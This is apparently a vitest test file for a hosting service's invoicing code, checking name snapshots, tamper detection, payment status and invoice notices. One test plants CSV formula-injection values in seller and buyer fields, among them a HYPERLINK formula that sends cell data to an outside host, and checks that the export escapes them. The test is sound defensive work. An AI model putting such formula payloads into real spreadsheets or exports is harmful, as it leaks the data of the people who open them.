import { pino } from 'pino'
import { expect, it } from 'vitest'
import { readMigrations } from '../../migrations/migrate.ts'
import { readNotices } from '../accounts/notices.ts'
import { invoicePage, invoicesPage } from '../https/control/invoice-pages.ts'
import { closeDueMonths } from './closing.ts'
import { invoiceCsv, invoiceDocument, paymentsOfInvoices, readInvoiceView } from './invoice-document.ts'
import { readInvoices } from './invoices.ts'
import { setBuyer, setSeller } from './parties.ts'
import { proveInvoices } from './recompute.ts'
import { type Ledger, span, testLedger } from './testing/ledger.ts'

const log = pino({ level: 'silent' })
const never = new AbortController().signal
const MARCH = new Date('2026-03-01T02:30:00Z')
const APRIL = new Date('2026-04-01T02:30:00Z')
const installation = { domain: 'berth.example', lobby: 'ssh berth.example', machineUrl: () => '', mails: false }
const STRIPE = { key: 'sk_test_x', host: undefined, webhookSecrets: [] }

/** An hour in February and one in March. */
async function user(ledger: Ledger, email?: string): Promise<number> {
  const accountId = await ledger.account({ plan: 'usage', ...(email === undefined ? {} : { email }) })
  const machineId = await ledger.machine(accountId)
  for (const month of ['02', '03']) {
    await ledger.spans([span(machineId, `2026-${month}-10T10:00:00Z`, `2026-${month}-10T11:00:00Z`)])
  }
  return accountId
}

it('an invoice names seller and buyer as they were when it was closed, wherever it is shown', async () => {
  await using ledger = await testLedger()
  const { gateway } = ledger
  const ada = await user(ledger, 'ada@example.com')
  const seller = { name: 'Berths & Sons', address: '2 Quay, Anytown', tax_id: 'XY98' }
  await setSeller(gateway, seller)
  await setBuyer(gateway, ada, { name: 'Example Ltd', tax_id: 'XY12' })
  await closeDueMonths(gateway, MARCH, never, log)
  await setSeller(gateway, { name: 'Somebody Else' })
  await setBuyer(gateway, ada, {})
  await ledger.owner`update accounts set email = 'lovelace@example.com' where id = ${ada}`
  await closeDueMonths(gateway, APRIL, never, log)
  const [first, second] = [await readInvoiceView(gateway, undefined, 1), await readInvoiceView(gateway, undefined, 2)]
  if (!first || !second) throw new Error('two months were closed')
  expect(first.invoice).toMatchObject({
    seller,
    buyer: { name: 'Example Ltd', tax_id: 'XY12', email: 'ada@example.com' },
  })
  expect(second.invoice).toMatchObject({ seller: { name: 'Somebody Else' }, buyer: { email: 'lovelace@example.com' } })
  const page = invoicePage(installation, undefined, first)
  expect(page).toContain('<dt>From</dt><dd>Berths &#38; Sons<br>2 Quay, Anytown<br>tax number XY98<br></dd>')
  expect(page).toContain('<dt>For</dt><dd>Example Ltd<br>tax number XY12<br>ada@example.com')
  expect(invoiceDocument(first)).toMatchObject({
    ...{ seller, buyer: { name: 'Example Ltd', address: null, tax_id: 'XY12' }, email: 'ada@example.com' },
  })
  const rows = invoiceCsv(first).trim().split('\n')
  expect(rows[0]).toMatch(/,amount_usd,seller,seller_address,seller_tax_id,buyer,buyer_address,buyer_tax_id$/)
  for (const row of rows.slice(1)) expect(row).toMatch(/,Berths & Sons,"2 Quay, Anytown",XY98,Example Ltd,,XY12$/)
  await expect(gateway`update invoices set seller = null`).rejects.toThrow(/permission denied/)
})

it('machines are called on an invoice what they were called when it was closed, wherever it is shown', async () => {
  await using ledger = await testLedger()
  const { gateway, owner } = ledger
  const accountId = await ledger.account({ plan: 'usage', since: '2026-02-01' })
  const [demo, spare] = [await ledger.machine(accountId, 'demo'), await ledger.machine(accountId, 'spare')]
  const whole = { cpus: 1, diskBytes: 2 ** 30 }
  await ledger.spans([
    span(demo, '2026-02-10T10:00:00Z', '2026-02-10T11:00:00Z', whole),
    span(demo, '2026-03-10T10:00:00Z', '2026-03-10T11:00:00Z', whole),
  ])
  await closeDueMonths(gateway, MARCH, never, log)
  const shown = async () => {
    const view = await readInvoiceView(gateway, undefined, 1)
    if (!view) throw new Error('a month was closed')
    return { csv: invoiceCsv(view), document: invoiceDocument(view), page: invoicePage(installation, undefined, view) }
  }
  const before = await shown()
  expect(before.csv).toMatch(new RegExp(`,${demo},demo,vCPU-hour,`))
  expect(before.page).toContain('<span class="mono">demo</span>')
  expect(before.document).toMatchObject({ machine_names: { [demo]: 'demo' } })
  // The other takes its name, so that what is shown by it would even be of another machine.
  await owner`update machines set name = 'heron' where id = ${demo}`
  await owner`update machines set name = 'demo' where id = ${spare}`
  expect(await shown()).toEqual(before)
  await closeDueMonths(gateway, APRIL, never, log)
  expect((await readInvoiceView(gateway, undefined, 2))?.names).toEqual(new Map([[demo, 'heron']]))
  const problems = async () => {
    const found: string[] = []
    for await (const proof of proveInvoices(gateway, never)) found.push(...proof.problems)
    return found
  }
  expect(await problems()).toEqual([])
  await owner.unsafe("set session_replication_role = replica; update invoices set names = '{}' where number = 2")
  await owner.unsafe('set session_replication_role = origin')
  expect(await problems()).toEqual([`it does not say what machine ${demo} was called`])
})

it('an invoice from before names were kept has those of the day from which they are', async () => {
  await using ledger = await testLedger()
  const { gateway, owner } = ledger
  const accountId = await user(ledger)
  await closeDueMonths(gateway, APRIL, never, log)
  const kept = await gateway<{ names: Record<string, string> }[]>`select names from invoices order by number`
  expect(kept.map(({ names }) => Object.values(names))).toEqual([['m1'], ['m1']])
  await owner`alter table invoices drop column names`
  await owner`update machines set name = 'heron' where account_id = ${accountId}`
  await owner.unsafe(readMigrations().find(({ name }) => name === 'invoice_names')?.text ?? '')
  await owner`update machines set name = 'later' where account_id = ${accountId}`
  for (const number of [1, 2]) {
    expect([...((await readInvoiceView(gateway, undefined, number))?.names.values() ?? [])]).toEqual(['heron'])
  }
  await expect(owner`update invoices set names = '{}'`).rejects.toThrow(/append only/)
  for await (const proof of proveInvoices(gateway, never)) expect(proof.problems).toEqual([])
})

it('what begins as a formula does is text in CSV, and numbers stay numbers', async () => {
  await using ledger = await testLedger()
  const { gateway, owner } = ledger
  const ada = await user(ledger)
  await setSeller(gateway, { name: '=HYPERLINK("https://example.net/?"&A1)', address: '@SUM(1)', tax_id: '+1-2' })
  await setBuyer(gateway, ada, { name: '-2+3', address: '1 = 1', tax_id: '\t=1' })
  await owner`insert into credits (account_id, micros, reason) values (${ada}, 1000000, '=1+1')`
  await closeDueMonths(gateway, MARCH, never, log)
  const view = await readInvoiceView(gateway, undefined, 1)
  if (!view) throw new Error('a month was closed')
  const [, ...rows] = invoiceCsv(view).trim().split('\n')
  for (const row of rows) {
    expect(row).toContain(`,"'=HYPERLINK(""https://example.net/?""&A1)",'@SUM(1),'+1-2,'-2+3,1 = 1,'\t=1`)
  }
  expect(rows.some((row) => /,-0\.\d+,"'=HYPERLINK/.test(row))).toBe(true)
  expect(invoiceDocument(view)).toMatchObject({ buyer: { name: '-2+3' }, seller: { address: '@SUM(1)' } })
})

it('where nothing is set and nothing collected, an invoice looks as it did', async () => {
  await using ledger = await testLedger()
  const ada = await user(ledger)
  await closeDueMonths(ledger.gateway, MARCH, never, log)
  const view = await readInvoiceView(ledger.gateway, undefined, 1)
  if (!view) throw new Error('a month was closed')
  expect(view.invoice).toMatchObject({ seller: null, buyer: null })
  const page = invoicePage(installation, undefined, view)
  expect(page).toContain(`<dt>For</dt><dd>account ${ada}`)
  expect(page).not.toMatch(/<dt>(From|State)<\/dt>/)
  expect(invoiceDocument(view)).not.toHaveProperty('seller')
  expect(invoiceDocument(view)).not.toHaveProperty('payment')
  expect(invoiceCsv(view)).toMatch(/^[a-z_,]*,amount_usd\n/)
})

it('where it is collected, an invoice and the list of them say whether it is paid', async () => {
  await using ledger = await testLedger()
  const { gateway, owner } = ledger
  const ada = await user(ledger)
  await closeDueMonths(gateway, APRIL, never, log)
  await owner`insert into stripe_modes (livemode) values (false)`
  await owner`insert into stripe_invoices (invoice, livemode, stripe_id, status, failure) values
    (1, false, 'in_1', 'paid', null), (2, false, 'in_2', 'open', 'your card was declined')`
  const view = await readInvoiceView(gateway, STRIPE, 1)
  if (!view) throw new Error('a month was closed')
  expect(invoicePage(installation, undefined, view)).toContain('<dt>State</dt><dd>paid</dd>')
  expect(invoiceDocument(view)).toMatchObject({ payment: { status: 'paid', words: 'paid' } })
  const payments = await paymentsOfInvoices(gateway, STRIPE, ada)
  const list = invoicesPage(installation, undefined, await readInvoices(gateway, ada), payments)
  expect(list).toMatch(/>2<.*<td>not paid: your card was declined<\/td>.*>1<.*<td>paid<\/td>/s)
  // A test that moved no money says nothing of what is owed.
  expect((await readInvoiceView(gateway, { ...STRIPE, key: 'sk_live_x' }, 1))?.payment).toBeUndefined()
})

it('an account is told of its invoice when it is closed, and where to find it', async () => {
  await using ledger = await testLedger()
  const { gateway } = ledger
  const [ada, bob] = [await user(ledger, 'ada@example.com'), await user(ledger)]
  const where = { controlUrl: 'https://berth.example:8443', collects: true }
  await closeDueMonths(gateway, MARCH, never, log, where)
  await closeDueMonths(gateway, MARCH, never, log, where)
  const numbers = await gateway<{ number: number }[]>`select number from invoices order by account_id`
  for (const [index, accountId] of [ada, bob].entries()) {
    const number = numbers[index]?.number
    expect(await readNotices(gateway, accountId)).toMatchObject([
      {
        subject: `invoice ${number} for February 2026: $0.05`,
        body: expect.stringMatching(
          new RegExp(
            `comes to \\$0\\.05\\. It is collected .*\n\n.*: https://berth\\.example:8443/invoices/${number}\n$`,
          ),
        ),
      },
    ])
  }
  expect(await gateway`select recipient, subject from mails`).toEqual([
    { recipient: 'ada@example.com', subject: `Berth: invoice ${numbers[0]?.number} for February 2026: $0.05` },
  ])
})
